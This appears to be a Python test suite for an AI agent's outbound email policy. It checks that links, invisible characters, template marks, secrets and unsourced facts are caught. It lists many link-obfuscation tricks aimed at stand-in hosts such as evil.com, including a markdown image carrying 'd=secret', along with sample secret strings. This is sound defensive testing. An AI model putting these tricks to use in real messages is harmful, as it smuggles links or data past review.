"""Guarantee 8, policy's share: what a body may hold, as a proposal, as an edit and as final bytes."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.policy import FinalText, Judgement, evaluate_final
from outbound.compose import Composed, Reply, compose, inspect
from outbound.contracts import Refused
from tests.agent.judging import ANN, OURS, RULES, broken, facts, judge, proposal

FREE = facts(entry_id=None, entry_risk=None)


def proposed(text: str) -> Judgement:
    return judge(proposal(plain_text=text, template_id=None, risk_level="medium"), FREE)


def final(text: str) -> Judgement | Refused:
    """The same text through the bytes that would leave."""
    reply = Reply(
        from_address=OURS,
        to_address=ANN,
        subject="Re: Opening hours",
        body=text,
        message_id="x.1@larkspur.example",
        date=datetime(2026, 11, 20, tzinfo=UTC),
        way="approved",
    )
    composed = compose(reply)
    if not isinstance(composed, Composed):
        return composed
    found = inspect(composed.raw)
    if isinstance(found, Refused):
        return found
    said = FinalText(**{name: getattr(found, name) for name in FinalText.model_fields})
    return evaluate_final("d-1", said, proposal(template_id=None, risk_level="medium"), FREE, RULES, way="approved")


LINKS: dict[str, Callable[[str], str]] = {
    "bare": "see https://{}/x".format,
    "no scheme": "see {}/x".format,
    "upper case": lambda host: f"HTTPS://{host.upper()}/X",
    "markdown": "[our shop](https://{}/x)".format,
    "markdown reference": "[our shop][1]\n\n[1]: https://{}/x".format,
    "image": "![](https://{}/x.png?d=secret)".format,
    "autolink": "<https://{}/x>".format,
    "html": '<a href="//{}">x</a>'.format,
    "defanged": lambda host: f"hxxps://{host.replace('.', '[.]')}/x",
    "in words": lambda host: host.replace(".", " dot "),
    "spaced": lambda host: host.replace(".", " . "),
    "zero width": lambda host: "\u200b".join(f"https://{host}/x"),
    "fullwidth": lambda host: "".join(chr(ord(one) + 0xFEE0) for one in host),
    "entities": lambda host: "".join(f"&#{ord(one)};" for one in f"https://{host}"),
    "percent": lambda host: "".join(f"%{ord(one):02X}" for one in f"https://{host}"),
    "both": lambda host: "".join(f"%26%23{ord(one)}%3B" for one in f"https://{host}"),
    "listed host in front": "https://larkspur.example.{}/help/".format,
    "listed host as user": "https://larkspur.example@{}/help/".format,
    "listed host as query": "https://larkspur.example/help/?to=https://{}".format,
    "behind a listed one": "https://larkspur.example/help/,https://{}".format,
    "address": "write to eve@{}".format,
    "mailto": "mailto:eve@{}".format,
}
HOSTS = ("evil.com", "a.b.evil.net", "evil.example", "xn--evil-1.com")


@pytest.mark.parametrize("host", HOSTS)
@pytest.mark.parametrize("syntax", sorted(LINKS))
def test_no_strange_link_leaves_unseen_in_any_syntax(syntax: str, host: str) -> None:
    text = f"Dear Ann,\n{LINKS[syntax](host)}\nBye"
    assert "links" in broken(proposed(text))
    judged = final(text)
    assert isinstance(judged, Refused) or "links" in broken(judged)


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(sorted(LINKS)), st.sampled_from(HOSTS), st.text(max_size=40), st.text(max_size=40))
def test_nothing_around_a_link_hides_it(syntax: str, host: str, before: str, after: str) -> None:
    assert "links" in broken(proposed(f"{before}\n{LINKS[syntax](host)}\n{after}"))


def test_a_listed_link_may_leave_in_an_entry_of_the_operator() -> None:
    text = "Thank you. See https://larkspur.example/help/returns for more."
    assert judge(proposal(plain_text=text)).policy.decision == "allow"


@pytest.mark.parametrize("code", [0, 7, 0x1B, 0x200B, 0x200D, 0x202E, 0x2066, 0xFEFF, 0xE0041])
def test_no_character_leaves_that_nobody_sees(code: int) -> None:
    text = f"Dear Ann, hel{chr(code)}lo"
    assert broken(proposed(text))["invisible_text"] == "deny"
    judged = final(text)
    assert isinstance(judged, Refused) or broken(judged)["invisible_text"] == "deny"


@pytest.mark.parametrize(
    "text", ["Dear {{name}}", "Dear {\u200b{name}}", "Dear &#123;{name}}", "Dear \uff5b\uff5bname"]
)
def test_no_template_mark_leaves(text: str) -> None:
    assert broken(proposed(text))["unresolved_fields"] == "deny"
    judged = final(text)
    assert isinstance(judged, Refused) or broken(judged)["unresolved_fields"] == "deny"


@pytest.mark.parametrize("text", ["AKIAIOSFODNN7EXAMPLE", "4111 1111 1111 1111", "https://me:hunter22@db.com"])
def test_no_secret_leaves_and_none_is_repeated(text: str) -> None:
    judged = proposed(f"Dear Ann, it is {text}.")
    assert broken(judged)["secrets"] == "deny"
    assert text not in judged.policy.review_reason


def test_an_attachment_in_the_bytes_is_refused() -> None:
    """Whoever put it there: the proposal had none."""
    found = FinalText(
        from_address=OURS, to_address=ANN, subject="Re: Hi", body="Hello", attachments=1, auto_submitted=""
    )
    judged = evaluate_final("d-1", found, proposal(), facts(), RULES, way="approved", overruled=("attachments",))
    assert broken(judged)["attachments"] == "deny"
    assert judged.policy.max_attachment_count == 0


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("We refund 250 EUR.", "250 EUR"),
        ("It arrives on 24 December 2026.", "24 December 2026"),
        ("It arrives on Friday.", "Friday"),
        ("You get forty percent off.", "forty"),
        ("Please ask Mallory about it.", "Mallory"),
        ("You may pay with PayPal.", "PayPal"),
        ("Your order LG-00000 is fine.", "LG-00000"),
    ],
)
def test_what_stands_in_no_source_is_reviewed_and_named(text: str, word: str) -> None:
    judged = proposed(text)
    reason = next(finding.reason for finding in judged.findings if finding.rule == "facts")
    assert word in reason
    assert judged.policy.decision == "review"


def test_what_stands_in_a_source_is_not_named() -> None:
    assert "facts" in proposed("Dear Ann, we are open from 9 to 18, Monday to Saturday.").passed


@settings(max_examples=200, deadline=None)
@given(st.integers(20, 999_999).filter(lambda number: str(number) not in "9 18"))
def test_any_number_that_stands_in_no_source_is_reviewed(number: int) -> None:
    for text in (f"It costs {number} EUR", f"It costs {number:,}", f"Call {number}.", f"Order X-{number}"):
        assert "facts" in broken(proposed(text))
